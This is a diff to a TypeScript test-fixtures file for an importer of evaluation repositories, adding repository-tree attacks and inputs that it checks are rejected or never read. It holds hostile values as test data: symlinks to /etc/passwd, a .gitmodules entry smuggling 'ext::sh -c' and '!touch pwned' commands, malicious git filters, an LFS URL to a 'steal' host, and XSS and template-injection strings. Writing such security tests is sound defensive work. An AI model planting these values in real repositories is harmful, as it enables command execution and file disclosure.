@@ -80,7 +80,7 @@ export const DOCUMENT_ATTACKS: Attack[] = [
   ),
   yaml("a repeated key", "key_repeated", `${good}name: Again\n`, lastLine),
   yaml("a tag that makes an object", "yaml_tag", good.replace("Say yes.", '!!js/function "function(){}"'), 15),
-  yaml("a revision no column holds", "number_too_big", good.replace("revision: 1", "revision: 9007199254740992"), 12),
+  yaml("a revision no column holds", "number_over_int4", good.replace("revision: 1", "revision: 9007199254740992"), 12),
   yaml("a revision that is infinite", "number_not_finite", good.replace("revision: 1", "revision: .inf"), 12),
   yaml(
     "a javascript: address",
@@ -129,4 +129,125 @@ export const DOCUMENT_ATTACKS: Attack[] = [
     "provenance_ambiguous",
     withConfig('"runner_version": "1", "run_date": "2025-01-01", "importer_version": "1"'),
   ),
+];
+
+const remove = (path: string): Change => ({ path, remove: true });
+const folder = ["eval.yaml", "README.md", "AUTHORS", "sample-result.json", "tasks/README.md", "assets/README.md"];
+const emptied: Change[] = [...folder.map((name) => remove(`evals/victim/${name}`)), remove(PUB)];
+const SUBMODULE = "1234567890123456789012345678901234567890";
+
+export const TREE_ATTACKS: Attack[] = [
+  {
+    name: "eval.yaml is a link to a file of the machine",
+    changes: [{ path: DEF, linkTo: "/etc/passwd" }],
+    file: DEF,
+    code: "definition_is_link",
+  },
+  {
+    name: "eval.yaml is a link to another eval",
+    changes: [{ path: DEF, linkTo: "../steady/eval.yaml" }],
+    file: DEF,
+    code: "definition_is_link",
+  },
+  {
+    name: "the folder is a link",
+    changes: [...emptied, { path: "evals/victim", linkTo: "steady" }],
+    file: "evals/victim",
+    code: "folder_is_link",
+  },
+  {
+    name: "the folder is a submodule",
+    changes: [...emptied, { path: "evals/victim", submodule: SUBMODULE }],
+    file: "evals/victim",
+    code: "folder_is_submodule",
+  },
+  {
+    name: "eval.yaml is a submodule",
+    changes: [remove(DEF), { path: DEF, submodule: SUBMODULE }],
+    file: DEF,
+    code: "folder_is_submodule",
+  },
+  {
+    name: "published results are a link",
+    changes: [{ path: PUB, linkTo: "/etc/hostname" }],
+    file: PUB,
+    code: "published_link",
+  },
+  {
+    name: "the id is another eval's",
+    changes: [{ path: DEF, bytes: evalYaml("steady") }],
+    file: DEF,
+    code: "directory_id_mismatch",
+    line: 1,
+  },
+  {
+    name: "33 published files",
+    changes: Array.from({ length: 33 }, (_, at) => ({
+      path: `evals/victim/published-results/n${at}.json`,
+      bytes: JSON.stringify(publication("victim", { [`Model ${at}`]: 1 })),
+    })),
+    file: "evals/victim/published-results",
+    code: "published_too_many",
+  },
+  {
+    name: "a published file over 1 MiB",
+    changes: [{ path: PUB, bytes: `${goodJson}${" ".repeat(MIB)}` }],
+    file: PUB,
+    code: "published_file_too_large",
+  },
+  {
+    name: "a published file over 4 MiB",
+    changes: [{ path: PUB, bytes: `${goodJson}${" ".repeat(5 * MIB)}` }],
+    file: PUB,
+    code: "published_file_too_large",
+  },
+];
+
+/** Things a repository may hold that must not even slow the others down: nothing of them is read. */
+export const HARMLESS: { name: string; changes: Change[] }[] = [
+  { name: "a picture of 30 MiB", changes: [{ path: "evals/victim/assets/big.bin", bytes: Buffer.alloc(30 * MIB, 7) }] },
+  { name: "links to the machine", changes: [{ path: "evals/victim/assets/passwd", linkTo: "/etc/passwd" }] },
+  { name: "a submodule beside it", changes: [{ path: "evals/victim/assets/sub", submodule: SUBMODULE }] },
+  {
+    name: "filters, hooks and executables",
+    changes: [
+      {
+        path: ".gitattributes",
+        bytes: "* filter=evil diff=evil merge=evil\n*.yaml text eol=crlf ident export-subst\n",
+      },
+      {
+        path: ".gitmodules",
+        bytes: '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch pwned"\n\tupdate = !touch pwned\n',
+      },
+      { path: "evals/victim/run.sh", bytes: "#!/bin/sh\ntouch pwned\n", mode: "100755" },
+      { path: ".lfsconfig", bytes: "[lfs]\n\turl = https://example.org/steal\n" },
+    ],
+  },
+  {
+    name: "HTML in every text",
+    changes: [
+      { path: "evals/victim/README.md", bytes: "<script>alert(1)</script><img src=x onerror=alert(1)>\n" },
+      {
+        path: DEF,
+        bytes: evalYaml("victim", {
+          name: '"<img src=x onerror=alert(1)>"',
+          description: "\"<script>alert('1')</script> {{constructor.constructor('alert(1)')()}}\"",
+        }),
+      },
+    ],
+  },
+];
+
+/** Names of folders below evals/ that no eval may have. */
+export const FOLDER_NAMES = [
+  "A B",
+  "-rf",
+  "UPPER",
+  "<script>",
+  "new\nline",
+  "tab\there",
+  "..a",
+  "x".repeat(200),
+  "数据",
+  "a",
 ];
